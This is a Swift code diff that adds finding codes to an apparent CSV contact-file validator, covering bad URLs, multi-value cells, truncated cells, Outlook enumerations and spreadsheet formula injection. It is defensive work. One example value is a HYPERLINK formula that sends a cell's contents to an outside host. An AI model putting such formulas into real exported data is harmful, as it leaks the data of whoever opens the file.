@@ -106,17 +106,54 @@ public enum CSVContactCodes {
     "CS306", "csv-bad-date", .warning,
     rule: "A date is a day of the calendar.",
     why: "It could not be read and was kept as text.", bad: "31/02/1990", good: "28/02/1990")
+  /// A URL that is none.
+  public static let badURL = FindingCode(
+    "CS307", "bad-url", .warning,
+    rule: "A cell for a web page holds a URL.",
+    why: "It has blanks or neither a dot nor a colon. It was kept as it stands.",
+    section: "RFC 3986 3", bad: "my page", good: "https://example.org")
+  /// Several values in one cell that are not parted as Google parts them.
+  public static let brokenMultiValue = FindingCode(
+    "CS308", "broken-multi-value", .warning,
+    rule: "Several values in one cell are parted by three colons with a blank on either side.",
+    why: "Somebody has edited the cell. It was kept as one value, because nobody can tell where the next one begins.",
+    bad: "+1 555 0100 :: +1 555 0101", good: "+1 555 0100 ::: +1 555 0101")
   /// A label stands beside no value.
   public static let typeWithoutValue = FindingCode(
     "CS309", "type-without-value", .note,
     rule: "A label has a value beside it.", why: "The label says nothing and was left out.",
     bad: "Phone 1 - Label: Home, Phone 1 - Value: (empty)", good: "both empty")
 
+  /// A cell that a spreadsheet would take for a formula.
+  public static let formulaCell = FindingCode(
+    "CS311", "formula-cell", .warning,
+    rule: "A cell does not begin with a sign that makes it a formula.",
+    why: "A spreadsheet runs it instead of showing it. It was kept as it stands; --spreadsheet-safe writes it guarded.",
+    section: "CWE-1236", bad: "=1+1", good: "1+1")
+  /// A formula that reaches out of the spreadsheet.
+  public static let dangerousFormula = FindingCode(
+    "CS312", "dangerous-formula", .error,
+    rule: "A cell is no formula that starts a program or sends data away.",
+    why: "Opened in a spreadsheet it does. It was kept as text; --spreadsheet-safe writes it guarded.",
+    section: "CWE-1236", bad: "=HYPERLINK(\"https://example.org/?\"&A1)", good: "https://example.org")
   /// An error of a spreadsheet.
   public static let spreadsheetError = FindingCode(
     "CS313", "spreadsheet-error", .error,
     rule: "A cell holds a value.", why: "A formula of a spreadsheet failed, or a column was too narrow to be exported.",
     bad: "#REF!", good: "Lovelace")
+  /// A cell as long as programs allow.
+  public static let cutCell = FindingCode(
+    "CS314", "cut-cell", .warning,
+    rule: "A cell holds the whole of its value.",
+    why: "Programs cut cells after 255, 256 or 32,767 characters, and this one has just as many.",
+    bad: "a note of 255 characters that ends within a word", good: "the whole note")
+  /// The apostrophe that keeps a spreadsheet from running a cell.
+  public static let apostropheGuard = FindingCode(
+    "CS315", "apostrophe-guard", .note,
+    rule: "A cell holds its value and no guard for spreadsheets.",
+    why:
+      "Another export has put it there. It was kept, because a value may begin like that; --spreadsheet-safe takes it off.",
+    bad: "'+1 555 0100", good: "+1 555 0100")
   /// A value stands in another column than its own.
   public static let wrongColumn = FindingCode(
     "CS317", "value-in-wrong-column", .warning,
@@ -128,6 +165,13 @@ public enum CSVContactCodes {
     rule: "A phone number or e-mail address is one line.",
     why: "Two values may stand in one cell; it was kept as it is.",
     bad: "\"+1 555 0100\n+1 555 0101\"", good: "+1 555 0100")
+  /// A word that Outlook does not have.
+  public static let badEnumeration = FindingCode(
+    "CS321", "bad-enumeration", .warning,
+    rule:
+      "Priority is Low, Normal or High; Sensitivity Normal, Personal, Private or Confidential; Private True or False.",
+    why: "Outlook knows no other words. It was kept as it stands.",
+    bad: "Priority: urgent", good: "Priority: High")
   /// A value stands in the notes.
   public static let valueInNotes = FindingCode(
     "CS322", "value-in-notes", .note,
@@ -140,6 +184,7 @@ public enum CSVContactCodes {
   public static let all: [FindingCode] = [
     noHeader, duplicateHeader, blankHeader, headerSpelling, unknownColumn, profileGuessed, profileMismatch, noIdentity,
     incompleteGroup, localizedHeader, assumedOrder, mappedColumnMissing, emptyContact, badEmail, spreadsheetNumber,
-    ambiguousDate, badDate, typeWithoutValue, spreadsheetError, wrongColumn, lineBreakInLine, valueInNotes,
+    ambiguousDate, badDate, badURL, brokenMultiValue, typeWithoutValue, formulaCell, dangerousFormula, spreadsheetError,
+    cutCell, apostropheGuard, wrongColumn, lineBreakInLine, badEnumeration, valueInNotes,
   ]
 }
